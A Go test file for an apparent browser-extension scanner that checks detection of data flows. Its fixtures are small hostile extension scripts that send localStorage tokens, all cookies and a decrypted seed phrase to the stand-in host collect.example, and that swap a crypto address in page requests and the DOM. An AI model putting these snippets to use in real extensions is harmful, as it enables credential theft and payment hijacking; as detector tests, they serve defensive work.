package analysis

import (
	"context"
	"slices"
	"testing"
	"testing/fstest"

	"github.com/extwatch/extwatch/manifests"
)

// What scripts do in forms that people and tools write, beside the plain one.
func TestForms(t *testing.T) {
	const background = `{"manifest_version": 3, "name": "x", "version": "1", "background": {"service_worker": "bg.js"}}`
	const worlds = `{"manifest_version": 3, "name": "x", "version": "1", "content_scripts": [
		{"matches": ["https://www.exchange.example/*"], "js": ["main.js"], "world": "MAIN"}, {"matches": ["https://www.exchange.example/*"], "js": ["own.js"]}]}`
	tests := []struct {
		name, manifest string
		files          map[string]string
		want           string // source -> sink -> host
	}{
		{"an event from the page's world", worlds, map[string]string{
			"main.js": `document.dispatchEvent(new CustomEvent("x", {detail: {t: localStorage.getItem("token")}}));`,
			"own.js":  `document.addEventListener("x", (e) => fetch("https://collect.example/", {method: "POST", body: e.detail.t}));`,
		}, "storage_token fetch collect.example"},
		{"a request of the page, changed", worlds, map[string]string{
			"main.js": `const send = XMLHttpRequest.prototype.send;
				XMLHttpRequest.prototype.send = function (b) {
					const j = JSON.parse(b);
					j.address = "0xde0B295669a9FD93d5F28D9Ec85E40f4cb697BAe";
					return send.call(this, JSON.stringify(j));
				};`,
			"own.js": ``,
		}, "constant_address request_body "},
		{"modules of browserify", background, map[string]string{
			"bg.js": `(function(){function r(e,n,t){return t}return r})()({1:[function(require,module,exports){
				const send = require("./send");
				chrome.cookies.getAll({}, (list) => send.post(list));
			},{"./send":2}],2:[function(require,module,exports){
				exports.post = (x) => fetch("https://collect.example/", {body: JSON.stringify(x)});
			},{}]},{},[1]);`,
		}, "cookies fetch collect.example"},
		{"a class as Babel writes it", background, map[string]string{
			"bg.js": `var Api = make(function Api(host) { this.host = host; }, [
					{key: "post", value: function (x) { fetch(this.host, {body: JSON.stringify(x)}); }},
					{key: "run", value: function () { chrome.cookies.getAll({}, (list) => this.post(list)); }}]);
				new Api("https://collect.example/").run();`,
		}, "cookies fetch collect.example"},
		{"a secret of what was decrypted", background, map[string]string{
			"bg.js": `chrome.runtime.onMessage.addListener(async (m) => {
				const text = new TextDecoder().decode(await crypto.subtle.decrypt(m.how, m.key, m.data));
				fetch("https://collect.example/", {method: "POST", body: JSON.parse(text).phrase});
			});`,
		}, "seed_input fetch collect.example"},
		{"a replacement by a function", worlds, map[string]string{
			"main.js": `const p = document.querySelector("#address");
				p.textContent = p.textContent.replace(/^0x[0-9a-f]{40}$/, () => "0xde0B295669a9FD93d5F28D9Ec85E40f4cb697BAe");`,
			"own.js": ``,
		}, "constant_address dom_value "},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			m, err := manifests.Parse([]byte(tt.manifest))
			if err != nil {
				t.Fatal(err)
			}
			files := fstest.MapFS{}
			for name, text := range tt.files {
				files[name] = &fstest.MapFile{Data: []byte(text)}
			}
			var got []string
			for _, f := range Analyze(context.Background(), Input{Manifest: m, Files: files}).Flows {
				got = append(got, f.Source+" "+f.Sink+" "+f.Host)
			}
			if !slices.Contains(got, tt.want) {
				t.Errorf("flows %q lack %q", got, tt.want)
			}
		})
	}
}
